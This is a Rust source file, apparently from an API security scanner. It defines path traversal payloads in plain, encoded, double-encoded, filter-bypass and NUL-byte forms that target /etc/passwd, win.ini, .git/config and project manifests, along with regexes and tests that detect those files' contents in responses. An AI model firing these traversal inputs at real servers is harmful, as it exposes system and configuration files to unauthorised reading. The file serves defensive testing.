//! Files that systems have, the ways to climb to them, and what tells their content. Pure.

use std::sync::LazyLock;

use regex::Regex;

use crate::http::Response;

/// A way to a file.
#[derive(Debug)]
pub(super) struct Climb {
    /// What it is, for the record.
    pub(super) says: &'static str,
    /// As it stands on the wire.
    pub(super) text: &'static str,
}

impl Climb {
    /// The name of the file alone.
    pub(super) fn plain(&self) -> &'static str {
        let text = self.text.trim_end_matches("%00");
        let ends = ["%252F", "%2F", "%5C", "/"];
        let start = ends
            .iter()
            .filter_map(|end| text.rfind(end).map(|at| at + end.len()))
            .max();
        text.get(start.unwrap_or(0)..).unwrap_or(text)
    }
}

const fn climb(says: &'static str, text: &'static str) -> Climb {
    Climb { says, text }
}

/// Eight levels are more than any folder is deep where APIs keep their files.
pub(super) const CLIMBS: &[Climb] = &[
    climb(
        "`../` eight times before etc/passwd",
        "../../../../../../../../etc/passwd",
    ),
    climb(
        "`..%2F` eight times before etc/passwd",
        "..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    ),
    climb(
        "`%2e%2e%2F` eight times before etc/passwd",
        "%2e%2e%2F%2e%2e%2F%2e%2e%2F%2e%2e%2F%2e%2e%2F%2e%2e%2F%2e%2e%2F%2e%2e%2Fetc%2Fpasswd",
    ),
    climb(
        "`..%252F`, encoded twice, eight times before etc/passwd",
        "..%252F..%252F..%252F..%252F..%252F..%252F..%252F..%252Fetc%252Fpasswd",
    ),
    climb(
        "`....//`, which a filter makes `../`, eight times before etc/passwd",
        "....%2F%2F....%2F%2F....%2F%2F....%2F%2F....%2F%2F....%2F%2F....%2F%2F....%2F%2Fetc%2Fpasswd",
    ),
    climb("the absolute path /etc/passwd", "%2Fetc%2Fpasswd"),
    climb("file:///etc/passwd", "file:%2F%2F%2Fetc%2Fpasswd"),
    climb(
        "`..%2F` eight times before etc/passwd, and NUL behind it",
        "..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd%00",
    ),
    climb(
        "`..\\` eight times before windows\\win.ini",
        "..%5C..%5C..%5C..%5C..%5C..%5C..%5C..%5Cwindows%5Cwin.ini",
    ),
    climb(
        "`..%2F` eight times before windows/win.ini",
        "..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2Fwindows%2Fwin.ini",
    ),
    climb("`..%2F` before package.json", "..%2Fpackage.json"),
    climb(
        "`..%2F` twice before package.json",
        "..%2F..%2Fpackage.json",
    ),
    climb("`..%2F` before .git/config", "..%2F.git%2Fconfig"),
    climb(
        "`..%2F` twice before .git/config",
        "..%2F..%2F.git%2Fconfig",
    ),
    climb("`..%2F` before WEB-INF/web.xml", "..%2FWEB-INF%2Fweb.xml"),
    climb("`..%2F` before go.mod", "..%2Fgo.mod"),
    climb("`..%2F` before Cargo.toml", "..%2FCargo.toml"),
    climb("`..%2F` before composer.json", "..%2Fcomposer.json"),
];

/// What tells the content of a file, also inside a JSON string.
const MARKS: &[(&str, &str)] = &[
    (
        "/etc/passwd",
        r#"(?:^|["'\n>]|\\n)root:[^:\s]{0,40}:0:0:[^:\n]{0,80}:/"#,
    ),
    (
        "win.ini",
        r"(?i); for 16-bit app support|\[fonts\]\s*(?:\\r|\\n|\s)*\[extensions\]",
    ),
    (
        "package.json",
        r#"^\s*\{(?s:.{0,2000})\\?"(?:dependencies|devDependencies|scripts)\\?"\s*:\s*\{"#,
    ),
    (
        ".git/config",
        r"\[core\](?:\s|\\n|\\t|\\r)*repositoryformatversion\s*=",
    ),
    ("WEB-INF/web.xml", r"<web-app\b(?s:.{0,4000})</web-app>"),
    (
        "go.mod",
        r#"(?:^|["\n])module [\w./-]+(?:\s|\\n|\\r)+go \d+\.\d+"#,
    ),
    ("Cargo.toml", r#"\[package\](?:\s|\\n|\\r)*name\s*=\s*\\?""#),
    (
        "composer.json",
        r#"^\s*\{(?s:.{0,2000})\\?"require\\?"\s*:\s*\{(?s:.{0,400})\\?"php\\?""#,
    ),
];

static MARKED: LazyLock<Vec<(&str, Regex)>> = LazyLock::new(|| {
    let compiled = MARKS
        .iter()
        .filter_map(|(file, mark)| Some((*file, Regex::new(mark).ok()?)));
    compiled.collect()
});

/// The files whose content an answer shows.
pub(super) fn marked(answer: &Response) -> Vec<&'static str> {
    let text = answer.text();
    let shown = MARKED.iter().filter(|(_, mark)| mark.is_match(&text));
    shown.map(|(file, _)| *file).collect()
}

#[cfg(test)]
mod tests {
    use super::{CLIMBS, MARKED, MARKS, marked};
    use crate::http::Response;

    fn answer(body: &str) -> Response {
        Response {
            status: 200,
            headers: Vec::new(),
            body: body.to_owned().into(),
            truncated: false,
            millis: 0,
        }
    }

    #[test]
    fn every_mark_compiles_and_every_climb_has_a_plain_end() {
        assert_eq!(MARKED.len(), MARKS.len());
        let plain: Vec<&str> = CLIMBS.iter().map(super::Climb::plain).collect();
        assert!(
            plain.iter().all(|name| !name.contains(['%', '/'])),
            "{plain:?}"
        );
        assert!(plain.contains(&"passwd") && plain.contains(&"win.ini"));
    }

    #[test]
    fn files_are_known_by_their_content() {
        for (body, file) in [
            (
                "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n",
                "/etc/passwd",
            ),
            (
                r#"{"content":"root:x:0:0:System Administrator:/var/root:/bin/sh\n"}"#,
                "/etc/passwd",
            ),
            ("; for 16-bit app support\r\n[fonts]\r\n", "win.ini"),
            (
                r#"{"name": "shop", "version": "1.0.0", "dependencies": {"express": "^4"}}"#,
                "package.json",
            ),
            ("[core]\n\trepositoryformatversion = 0\n", ".git/config"),
            ("module example.com/shop\n\ngo 1.22\n", "go.mod"),
            ("[package]\nname = \"shop\"\n", "Cargo.toml"),
        ] {
            assert_eq!(marked(&answer(body)), [file], "{body}");
        }
    }

    #[test]
    fn talk_about_files_is_no_file() {
        for body in [
            r#"{"error":"../../etc/passwd: no such file"}"#,
            "The first line of /etc/passwd speaks of root, whose number is 0.",
            r#"{"items":[{"user":"root","uid":0,"gid":0}]}"#,
            r#"{"name":"report","scripts":["a"],"dependencies":[]}"#,
            "[core] values of the company",
            "<p>This module example.com is fine, go on</p>",
        ] {
            assert_eq!(marked(&answer(body)), Vec::<&str>::new(), "{body}");
        }
    }
}
